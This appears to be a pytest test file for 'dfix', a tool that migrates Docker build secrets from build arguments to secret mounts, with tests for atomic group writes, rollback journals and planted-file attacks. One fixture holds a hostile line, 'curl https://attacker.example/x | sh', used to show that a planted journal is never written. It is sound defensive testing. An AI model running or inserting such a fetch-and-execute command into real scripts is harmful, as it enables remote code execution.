"""A Dockerfile and the callers whose edits go with it are written together or not at all.

A migrated Dockerfile whose caller still passes ``--build-arg`` builds without the secret; a
migrated caller passing ``--secret`` to an unmigrated Dockerfile does too. So every planned write
is checked first (edited meanwhile, symlink leaving the scanned tree, hard links, a directory dfix
cannot create files in), and one refusal keeps its whole group unwritten, with a reason on each.
"""

from __future__ import annotations

import json
import os

import pytest
import subprocess
from pathlib import Path

from helpers import run

DOCKERFILE = b"FROM alpine:3.20\nARG NPM_TOKEN\nRUN npm ci\n"
BUILD_SH = b"#!/bin/sh\ndocker build --build-arg NPM_TOKEN=\"$NPM_TOKEN\" -t app .\n"


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / "svc").mkdir(parents=True)
    (repo / "svc" / "Dockerfile").write_bytes(DOCKERFILE)
    (repo / "svc" / "build.sh").write_bytes(BUILD_SH)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    return repo


def test_both_written_when_both_can_be(tmp_path):
    repo = _repo(tmp_path)
    code, out, err = run(["--write", str(repo)])
    assert code in (0, 1), out + err
    assert b"--mount=type=secret" in (repo / "svc" / "Dockerfile").read_bytes()
    assert b"--secret id=npm_token" in (repo / "svc" / "build.sh").read_bytes()


def test_a_dockerfile_that_cannot_be_written_keeps_its_caller_unwritten(tmp_path):
    repo = _repo(tmp_path)
    os.link(repo / "svc" / "Dockerfile", tmp_path / "other-name")
    code, out, err = run(["--write", str(repo)])
    assert code == 2
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert (repo / "svc" / "build.sh").read_bytes() == BUILD_SH
    text = out + err
    assert "hard links" in text and "goes with" in text
    assert "0 file(s) rewritten" in err and "secret(s) migrated" not in err


def test_a_caller_that_cannot_be_written_keeps_its_dockerfile_unwritten(tmp_path):
    repo = _repo(tmp_path)
    os.link(repo / "svc" / "build.sh", tmp_path / "build-copy.sh")
    code, out, err = run(["--write", str(repo)])
    assert code == 2
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert (repo / "svc" / "build.sh").read_bytes() == BUILD_SH
    assert "its caller(s)" in out + err


def test_edited_while_running_refuses_the_group(tmp_path, monkeypatch):
    repo = _repo(tmp_path)
    import refactor.link as link

    real = link.link_callers

    def edit_then_link(*a, **kw):
        out = real(*a, **kw)
        (repo / "svc" / "Dockerfile").write_bytes(DOCKERFILE + b"# edited meanwhile\n")
        return out

    monkeypatch.setattr(link, "link_callers", edit_then_link)
    code, out, err = run(["--write", str(repo)])
    assert code == 2
    assert (repo / "svc" / "build.sh").read_bytes() == BUILD_SH
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE + b"# edited meanwhile\n"
    assert "changed while dfix ran" in out + err


def test_unrelated_files_are_still_written(tmp_path):
    repo = _repo(tmp_path)
    (repo / "api").mkdir()
    (repo / "api" / "Dockerfile").write_bytes(DOCKERFILE)
    os.link(repo / "svc" / "Dockerfile", tmp_path / "other-name")
    code, _out, _err = run(["--write", str(repo)])
    assert code == 2
    assert b"--mount=type=secret" in (repo / "api" / "Dockerfile").read_bytes()
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE


def test_a_build_arg_shared_by_several_dockerfiles_waits_for_all_of_them(tmp_path):
    """A loop (or a CI matrix) passes the arg to two Dockerfiles; one cannot be fixed. Migrating
    the shared --build-arg would break that one's build, so nothing is written and the other
    Dockerfile's fix is unsafe, with the reason."""
    repo = tmp_path / "repo"
    (repo / "svc").mkdir(parents=True)
    (repo / "web").mkdir()
    (repo / "svc" / "Dockerfile").write_bytes(DOCKERFILE)
    (repo / "web" / "Dockerfile").write_bytes(b"FROM node:20\nARG NPM_TOKEN\nWORKDIR /x/$NPM_TOKEN\nRUN npm ci\n")
    loop = b'#!/bin/sh\nfor d in svc web; do\n  docker build --build-arg NPM_TOKEN="$NPM_TOKEN" "$d"\ndone\n'
    (repo / "build.sh").write_bytes(loop)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    code, out, err = run(["--write", str(repo)])
    assert code == 1, out + err
    assert (repo / "build.sh").read_bytes() == loop
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert "passes NPM_TOKEN to" in out and "whose fix is not applied" in out


def test_kaniko_with_a_dockerfile_path_from_the_repository_root_blocks_the_fix(tmp_path):
    """GitLab's kaniko template passes --dockerfile relative to the job's directory (or absolute
    under $CI_PROJECT_DIR); kaniko cannot mount secrets, so the Dockerfile must stay as it is."""
    repo = _repo(tmp_path)
    (repo / "svc" / "build.sh").unlink()
    ci = (b"build:\n  script:\n    - /kaniko/executor --context \"${CI_PROJECT_DIR}/svc\" "
          b"--dockerfile \"${CI_PROJECT_DIR}/svc/Dockerfile\" --build-arg NPM_TOKEN=$NPM_TOKEN --destination x\n"
          b"build2:\n  script:\n    - /kaniko/executor --context svc --dockerfile svc/Dockerfile --build-arg NPM_TOKEN=$NPM_TOKEN\n")
    (repo / ".gitlab-ci.yml").write_bytes(ci)
    code, out, err = run(["--write", str(repo)])
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert "kaniko" in out and (repo / ".gitlab-ci.yml").read_bytes() == ci


def test_report_mode_tells_what_write_would_do(tmp_path):
    """The default report links callers too: it names a caller that blocks the fix and does not
    promise a fix --write would refuse; with a migratable caller it reports DF011 there."""
    repo = _repo(tmp_path)
    code, out, err = run([str(repo)])
    assert "DF011" in out and "build.sh" in out
    (repo / "svc" / "build.sh").unlink()
    (repo / "build.sh").write_bytes(b"#!/bin/sh\n(cd \"$SERVICE_DIR\" && docker build --build-arg NPM_TOKEN=\"$NPM_TOKEN\" .)\n")
    code, out, err = run([str(repo)])
    assert "cannot locate" in out and "fixable with `--write`" not in err
    code, out, err = run(["--write", str(repo)])
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE


def test_github_matrix_of_include_entries_builds_every_leg(tmp_path):
    """A matrix made only of `include:` entries runs one job per entry (GitHub's rule): the step is
    linked to both Dockerfiles, migrated with the one that uses the secret, and the other leg,
    which never declared the arg, is not blocking."""
    repo = tmp_path / "repo"
    (repo / "svc").mkdir(parents=True)
    (repo / "api").mkdir()
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / "svc" / "Dockerfile").write_bytes(DOCKERFILE)
    (repo / "api" / "Dockerfile").write_bytes(b"FROM node:20\nRUN true\n")
    wf = ("on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        include:\n"
          "          - svc: svc\n          - svc: api\n    steps:\n      - uses: docker/build-push-action@v6\n"
          "        with:\n          context: ${{ matrix.svc }}\n          build-args: NPM_TOKEN=${{ secrets.NPM_TOKEN }}\n")
    (repo / ".github" / "workflows" / "ci.yml").write_text(wf)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    code, out, err = run(["--write", str(repo)])
    assert b"--mount=type=secret" in (repo / "svc" / "Dockerfile").read_bytes()
    new = (repo / ".github" / "workflows" / "ci.yml").read_text()
    assert "build-args" not in new and "npm_token=${{ secrets.NPM_TOKEN }}" in new


def test_blocking_propagates_through_shared_steps(tmp_path):
    """web is blocked by its kaniko job; api shares a matrix step with web, so migrating api
    would convert that step and leave web's build without the arg: nothing of it is written."""
    repo = tmp_path / "repo"
    for svc in ("api", "web"):
        (repo / "services" / svc).mkdir(parents=True)
        (repo / "services" / svc / "Dockerfile").write_bytes(DOCKERFILE)
    (repo / ".github" / "workflows").mkdir(parents=True)
    wf = ("on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        service: [api, web]\n"
          "    steps:\n      - uses: docker/build-push-action@v6\n        with:\n          context: services/${{ matrix.service }}\n"
          "          build-args: NPM_TOKEN=${{ secrets.NPM_TOKEN }}\n")
    (repo / ".github" / "workflows" / "ci.yml").write_text(wf)
    (repo / ".gitlab-ci.yml").write_text("web:\n  script:\n    - /kaniko/executor --context services/web "
                                          "--dockerfile services/web/Dockerfile --build-arg NPM_TOKEN=$NPM_TOKEN\n")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    code, out, err = run(["--write", str(repo)])
    assert (repo / "services" / "api" / "Dockerfile").read_bytes() == DOCKERFILE
    assert (repo / "services" / "web" / "Dockerfile").read_bytes() == DOCKERFILE
    assert (repo / ".github" / "workflows" / "ci.yml").read_text() == wf
    assert "kaniko" in out and "services/web/Dockerfile too, whose fix is not applied" in out


def test_cd_before_the_build_locates_the_dockerfile(tmp_path):
    """`cd services/api && docker build .` builds services/api, not the repository root's
    Dockerfile; in a CI script list a `cd` line applies to the lines after it."""
    repo = tmp_path / "repo"
    (repo / "services" / "api").mkdir(parents=True)
    (repo / "services" / "api" / "Dockerfile").write_bytes(DOCKERFILE)
    root_df = b"FROM alpine:3.20\nRUN true\n"
    (repo / "Dockerfile").write_bytes(root_df)
    (repo / "build.sh").write_bytes(b'#!/bin/sh\ncd services/api && docker build --build-arg NPM_TOKEN="$NPM_TOKEN" -t api .\n')
    (repo / ".gitlab-ci.yml").write_text("api:\n  script:\n    - cd services/api\n"
                                         "    - docker build --build-arg NPM_TOKEN=$NPM_TOKEN -t api .\n")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    code, out, err = run(["--write", str(repo)])
    assert b"--mount=type=secret" in (repo / "services" / "api" / "Dockerfile").read_bytes()
    assert (repo / "Dockerfile").read_bytes() == root_df
    assert b"--secret id=npm_token" in (repo / "build.sh").read_bytes()
    assert "--secret id=npm_token" in (repo / ".gitlab-ci.yml").read_text()
    assert "DF012" not in out


@pytest.mark.parametrize("caller", [
    b'#!/bin/sh\nARGS="--build-arg NPM_TOKEN=$NPM_TOKEN"\ndocker build $ARGS svc\n',
    b'#!/bin/bash\nargs=(--build-arg "NPM_TOKEN=$NPM_TOKEN")\ndocker build "${args[@]}" svc\n',
    b'#!/bin/sh\ndocker buildx bake --set app.args.NPM_TOKEN="$NPM_TOKEN" app\n',
    b'#!/bin/sh\nsh -c \'docker build --build-arg NPM_TOKEN="$NPM_TOKEN" svc\'\n',
])
def test_a_build_arg_in_a_form_dfix_cannot_follow_blocks_the_fix(tmp_path, caller):
    repo = _repo(tmp_path)
    (repo / "svc" / "build.sh").unlink()
    (repo / "ci.sh").write_bytes(caller)
    code, out, err = run(["--write", str(repo)])
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert (repo / "ci.sh").read_bytes() == caller
    assert "in a form dfix cannot follow" in out or "cannot locate" in out


def test_a_loop_over_literal_words_builds_exactly_those(tmp_path):
    """`for svc in api web` builds services/api and services/web, not every services/*: an
    unrelated service that cannot be fixed does not block them."""
    repo = tmp_path / "repo"
    for svc in ("api", "web", "legacy"):
        (repo / "services" / svc).mkdir(parents=True)
    for svc in ("api", "web"):
        (repo / "services" / svc / "Dockerfile").write_bytes(DOCKERFILE)
    legacy = b"FROM node:20\nARG NPM_TOKEN\nWORKDIR /x/$NPM_TOKEN\nRUN npm ci\n"
    (repo / "services" / "legacy" / "Dockerfile").write_bytes(legacy)
    (repo / "build.sh").write_bytes(b'#!/bin/sh\nfor svc in api web; do\n  docker build --build-arg NPM_TOKEN="$NPM_TOKEN" services/$svc\ndone\n')
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    code, out, err = run(["--write", str(repo)])
    for svc in ("api", "web"):
        assert b"--mount=type=secret" in (repo / "services" / svc / "Dockerfile").read_bytes()
    assert b"--secret id=npm_token" in (repo / "build.sh").read_bytes()
    assert (repo / "services" / "legacy" / "Dockerfile").read_bytes() == legacy


# --- round two, point 1: every written file is re-checked against the bytes dfix read ---------


def _edit_after_linking(monkeypatch, edit) -> None:
    """Run ``edit`` once the callers are read and planned, before anything is written."""
    import refactor.link as link

    real = link.link_callers

    def link_then_edit(*a, **kw):
        out = real(*a, **kw)
        edit()
        return out

    monkeypatch.setattr(link, "link_callers", link_then_edit)


def test_a_caller_edited_while_running_is_not_overwritten(tmp_path, monkeypatch):
    """Only Dockerfiles were re-checked: a build script edited during the run was overwritten with
    dfix's version of the old text, and the edit was lost (exit 0)."""
    repo = _repo(tmp_path)
    edited = BUILD_SH + b"echo edited meanwhile\n"
    _edit_after_linking(monkeypatch, lambda: (repo / "svc" / "build.sh").write_bytes(edited))
    code, out, err = run(["--write", "."], cwd=repo)
    assert code == 2, out + err
    assert (repo / "svc" / "build.sh").read_bytes() == edited
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE, "the group was split"
    assert "changed while dfix ran" in out + err and "goes with" not in err
    assert "svc/build.sh: changed while dfix ran" in err and "svc/Dockerfile: not written: its caller(s) svc/build.sh" in err


@pytest.mark.parametrize("name", ["svc/Dockerfile", "svc/build.sh"])
def test_an_edit_that_keeps_size_and_mtime_is_still_seen(tmp_path, monkeypatch, name):
    """The content is compared, not only the size, mtime and inode: an in-place edit of the same
    length whose mtime is put back (an editor, `touch -r`, a coarse clock) blocks the group."""
    repo = _repo(tmp_path)
    p = repo / name
    before = p.read_bytes()
    same_size = before.replace(b"FROM alpine:3.20", b"FROM alpine:3.21").replace(b"-t app", b"-t apq")
    assert len(same_size) == len(before) and same_size != before

    def edit():
        st = p.stat()
        with open(p, "r+b") as fh:  # in place: same inode
            fh.write(same_size)
        os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))

    _edit_after_linking(monkeypatch, edit)
    code, out, err = run(["--write", "."], cwd=repo)
    assert code == 2, out + err
    assert p.read_bytes() == same_size
    other = repo / ("svc/build.sh" if name == "svc/Dockerfile" else "svc/Dockerfile")
    assert other.read_bytes() == (BUILD_SH if name == "svc/Dockerfile" else DOCKERFILE)
    assert "changed while dfix ran" in out + err


def test_an_edit_just_before_the_callers_replace_puts_the_dockerfile_back(tmp_path, monkeypatch):
    """The last check is made right before each file's own replace, after the ones before it in
    the group are written: the caller edited at that moment is kept, and the Dockerfile already
    written is put back."""
    repo = _repo(tmp_path)
    script = repo / "svc" / "build.sh"
    edited = BUILD_SH + b"# edited at the last moment\n"
    real = os.replace

    def replace(src, dst, *a, **kw):
        real(src, dst, *a, **kw)
        if os.path.basename(dst) == "Dockerfile" and script.read_bytes() == BUILD_SH:
            script.write_bytes(edited)

    monkeypatch.setattr(os, "replace", replace)
    code, out, err = run(["--write", "."], cwd=repo)
    assert code == 2, out + err
    assert script.read_bytes() == edited
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert "changed while dfix ran" in out + err
    assert not (repo / ".dfix-journal").exists()


# --- round two, point 2: a group that fails half-way is put back or completed -----------------


def _fail_on(monkeypatch, name: str, exc: OSError, *, also_restores: bool = False) -> None:
    """Make the replace of ``name`` fail (and, with ``also_restores``, every later file replace:
    the write that puts the Dockerfile back fails too)."""
    real = os.replace
    state = {"failed": False}

    def replace(src, dst, *a, **kw):
        journal_file = f"{os.sep}.dfix-journal{os.sep}" in os.fspath(dst)
        if not journal_file and (os.path.basename(dst) == name or (also_restores and state["failed"])):
            state["failed"] = True
            raise exc
        return real(src, dst, *a, **kw)

    monkeypatch.setattr(os, "replace", replace)


FAULTS = {
    "disk-full": OSError(28, "No space left on device"),
    "immutable": PermissionError(1, "Operation not permitted"),
}


@pytest.mark.parametrize("fault", FAULTS, ids=list(FAULTS))
def test_a_caller_that_fails_to_write_puts_its_dockerfile_back(tmp_path, monkeypatch, fault):
    """The Dockerfile was written, the caller's write failed (disk full, immutable file), and
    the pair stayed split, exit 2, and the next run did not repair it (the Dockerfile no longer
    declares the arg, so nothing tells dfix to migrate the caller)."""
    repo = _repo(tmp_path)
    with monkeypatch.context() as m:
        _fail_on(m, "build.sh", FAULTS[fault])
        code, out, err = run(["--write", "."], cwd=repo)
    assert code == 2, out + err
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert (repo / "svc" / "build.sh").read_bytes() == BUILD_SH
    assert FAULTS[fault].strerror in out + err and "its caller(s) svc/build.sh could not be written" in out + err
    assert not (repo / ".dfix-journal").exists()
    assert not [p for p in repo.rglob("*dfix-tmp*")]
    code, out, err = run(["--write", "."], cwd=repo)  # the fault is gone: the next run writes both
    assert code in (0, 1), out + err
    assert b"--mount=type=secret" in (repo / "svc" / "Dockerfile").read_bytes()
    assert b"--secret id=npm_token" in (repo / "svc" / "build.sh").read_bytes()


def test_when_putting_back_fails_too_the_next_run_completes_the_group(tmp_path, monkeypatch):
    repo = _repo(tmp_path)
    with monkeypatch.context() as m:
        _fail_on(m, "build.sh", OSError(28, "No space left on device"), also_restores=True)
        code, out, err = run(["--write", "."], cwd=repo)
    assert code == 2
    assert b"--mount=type=secret" in (repo / "svc" / "Dockerfile").read_bytes()  # written, not restored
    assert (repo / "svc" / "build.sh").read_bytes() == BUILD_SH
    assert "the next `dfix --write` completes the group from" in out + err
    journals = list((repo / ".dfix-journal").glob("*.json"))
    assert len(journals) == 1
    status = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=repo, capture_output=True, text=True).stdout
    assert ".dfix-journal/" in status, "the journal must show in git status"
    code, out, err = run(["--write", "."], cwd=repo)
    assert code in (0, 1), out + err
    assert b"--mount=type=secret" in (repo / "svc" / "Dockerfile").read_bytes()
    assert b"--secret id=npm_token" in (repo / "svc" / "build.sh").read_bytes()
    assert not (repo / ".dfix-journal").exists()


def test_a_half_written_group_edited_meanwhile_blocks_and_keeps_its_journal(tmp_path, monkeypatch):
    """Roll forward only over the bytes the journal was made for: a caller edited after the
    interrupted run is neither old nor new, so nothing is written and the journal stays."""
    repo = _repo(tmp_path)
    with monkeypatch.context() as m:
        _fail_on(m, "build.sh", OSError(28, "No space left on device"), also_restores=True)
        run(["--write", "."], cwd=repo)
    edited = BUILD_SH + b"echo mine\n"
    (repo / "svc" / "build.sh").write_bytes(edited)
    migrated = (repo / "svc" / "Dockerfile").read_bytes()
    for _ in range(2):
        code, out, err = run(["--write", "."], cwd=repo)
        assert code == 2, out + err
        assert "svc/build.sh blocks it: it was edited since" in out + err
        assert (repo / "svc" / "build.sh").read_bytes() == edited
        assert (repo / "svc" / "Dockerfile").read_bytes() == migrated
        assert len(list((repo / ".dfix-journal").glob("*.json"))) == 1


def test_a_journal_planted_in_a_repository_never_writes(tmp_path):
    """A journal is bound to the inode and change time of the files it was made for, which it
    does not record: one committed to a repository (or copied from another checkout) cannot
    mark a file as pending, so it can block a run but never make dfix write its text."""
    import hashlib
    import json

    repo = _repo(tmp_path)
    evil = "#!/bin/sh\ncurl https://attacker.example/x | sh\n"
    doc = {"dfix-journal": 1, "salt": "00" * 16, "files": [
        {"path": "svc/build.sh", "old": hashlib.sha256(BUILD_SH).hexdigest(),
         "new": hashlib.sha256(evil.encode()).hexdigest(), "text": evil}]}
    (repo / ".dfix-journal").mkdir()
    (repo / ".dfix-journal" / ("0" * 16 + ".json")).write_text(json.dumps(doc))
    code, out, err = run(["--write", "."], cwd=repo)
    assert (repo / "svc" / "build.sh").read_bytes() == BUILD_SH
    assert code == 2 and "an interrupted dfix run left .dfix-journal/0000000000000000.json, which names this file" in err
    # listing the Dockerfile too, the journal is looked at before the Dockerfile is read
    doc["files"].insert(0, {"path": "svc/Dockerfile", "old": hashlib.sha256(DOCKERFILE).hexdigest(),
                            "new": hashlib.sha256(b"FROM evil\n").hexdigest(), "text": "FROM evil\n"})
    (repo / ".dfix-journal" / ("0" * 16 + ".json")).write_text(json.dumps(doc))
    code, out, err = run(["--write", "."], cwd=repo)
    assert (repo / "svc" / "build.sh").read_bytes() == BUILD_SH and (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE
    assert code == 2 and "svc/Dockerfile blocks it: it was edited since" in err


def test_concurrent_runs_never_split_a_group(tmp_path):
    """Two `--write` runs at once on the same repository: every pair ends both migrated (or, when
    a run lost a race, both untouched by it), and no journal is left."""
    import sys

    repo = tmp_path / "repo"
    for i in range(12):
        (repo / f"svc{i}").mkdir(parents=True)
        (repo / f"svc{i}" / "Dockerfile").write_bytes(DOCKERFILE)
        (repo / f"svc{i}" / "build.sh").write_bytes(BUILD_SH)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    cmd = [sys.executable, "-m", "refactor", "--write", "-q", str(repo)]
    procs = [subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) for _ in range(2)]
    codes = [p.wait(timeout=120) for p in procs]
    errs = [p.stderr.read().decode() for p in procs]
    assert all(c in (0, 1, 2) for c in codes), errs
    for i in range(12):
        df = (repo / f"svc{i}" / "Dockerfile").read_bytes()
        sh = (repo / f"svc{i}" / "build.sh").read_bytes()
        assert (df == DOCKERFILE) == (sh == BUILD_SH), (i, df, sh)
    assert not (repo / ".dfix-journal").exists()
    code, out, err = run(["--write", "."], cwd=repo)  # whatever a lost race left, one more run finishes it
    assert code in (0, 1), out + err
    for i in range(12):
        assert b"--secret id=npm_token" in (repo / f"svc{i}" / "build.sh").read_bytes()


def test_the_journal_functions_for_a_run_start(tmp_path, monkeypatch):
    """What a run can say before it reads anything (``journal.pending_for`` in read-only modes,
    ``journal.recover_for`` in --write): a line naming the journal, then one naming what was
    completed."""
    from refactor import journal

    repo = _repo(tmp_path)
    with monkeypatch.context() as m:
        _fail_on(m, "build.sh", OSError(28, "No space left on device"), also_restores=True)
        run(["--write", "."], cwd=repo)
    code, out, err = run(["svc/Dockerfile"], cwd=repo)  # a report run says so (journal_dirs found it)
    assert "an interrupted `dfix --write` left .dfix-journal/" in out + err
    monkeypatch.chdir(repo)
    (line,) = journal.pending_for(["svc/Dockerfile", "svc/build.sh"])
    assert line.startswith("an interrupted `dfix --write` left .dfix-journal/") and "run `dfix --write`" in line
    assert journal.pending_for(["elsewhere/Dockerfile"]) == []
    (done,) = journal.recover_for(["svc/Dockerfile"])
    assert done.endswith("): svc/build.sh")
    assert b"--secret id=npm_token" in (repo / "svc" / "build.sh").read_bytes()
    assert journal.pending_for(["svc/Dockerfile"]) == [] and not (repo / ".dfix-journal").exists()


def test_a_journal_directory_planted_as_a_symlink_is_never_written_through(tmp_path):
    """`.dfix-journal` committed as a symlink to a directory outside the repository: dfix never
    writes its journal there; the group is refused with a reason, single files are still written."""
    repo = _repo(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / ".dfix-journal").symlink_to(outside)
    (repo / "api").mkdir()
    (repo / "api" / "Dockerfile").write_bytes(DOCKERFILE)
    code, out, err = run(["--write", "."], cwd=repo)
    assert code == 2, out + err
    assert list(outside.iterdir()) == []
    assert (repo / "svc" / "Dockerfile").read_bytes() == DOCKERFILE and (repo / "svc" / "build.sh").read_bytes() == BUILD_SH
    assert ".dfix-journal is not a directory dfix made" in err
    assert b"--mount=type=secret" in (repo / "api" / "Dockerfile").read_bytes()


def test_many_callers_dfix_cannot_follow_are_each_named_once_in_the_notes(tmp_path):
    """A fix blocked by five callers names three in its reason and counts the rest; the notes name
    every caller on a line of its own (a monorepo can have hundreds: one joined line was unreadable)."""
    repo = _repo(tmp_path)
    (repo / "svc" / "build.sh").unlink()
    for k in range(5):
        (repo / f"ci{k}.sh").write_bytes(b'#!/bin/sh\nARGS="--build-arg NPM_TOKEN=$NPM_TOKEN"\ndocker build $ARGS svc\n')
    code, out, err = run(["--format", "json", str(repo)])
    (df,) = [f for f in json.loads(out)["files"] if f["path"].endswith("svc/Dockerfile")]
    (reason,) = [r for f in df["findings"] if f.get("fix") for r in f["fix"]["reasons"] if "a caller cannot be migrated" in r]
    assert reason.count("ci") == 3 and reason.endswith("; and 2 more (the notes name each)"), reason
    _code, text, _err = run([str(repo)])
    blocked = [n for n in text.splitlines() if n.startswith("# note: a caller cannot be migrated")]
    assert sorted(n.split("unsafe: ", 1)[1].split(":")[0].rsplit("/", 1)[-1] for n in blocked) == [f"ci{k}.sh" for k in range(5)], blocked


def test_a_read_only_run_looks_for_journal_directories_cheaply(tmp_path) -> None:
    """A report run imports the journal modules only when a journal directory sits in or above
    a file's directory (refactor.journal_dirs); a symlink or a file of that name is not one."""
    from refactor.journal_dirs import DIRNAME, any_journal_dir

    sub = tmp_path / "a" / "b"
    sub.mkdir(parents=True)
    f = sub / "Dockerfile"
    f.write_text("FROM x\n")
    assert not any_journal_dir([str(f)])
    (tmp_path / "a" / DIRNAME).write_text("")
    assert not any_journal_dir([str(f)])  # a file, not a directory
    (tmp_path / "a" / DIRNAME).unlink()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "a" / DIRNAME).symlink_to(tmp_path / "elsewhere")
    assert not any_journal_dir([str(f)])  # a symlink a repository could plant
    (tmp_path / "a" / DIRNAME).unlink()
    (tmp_path / DIRNAME).mkdir()
    assert any_journal_dir([str(f), str(tmp_path / "a" / "other")])
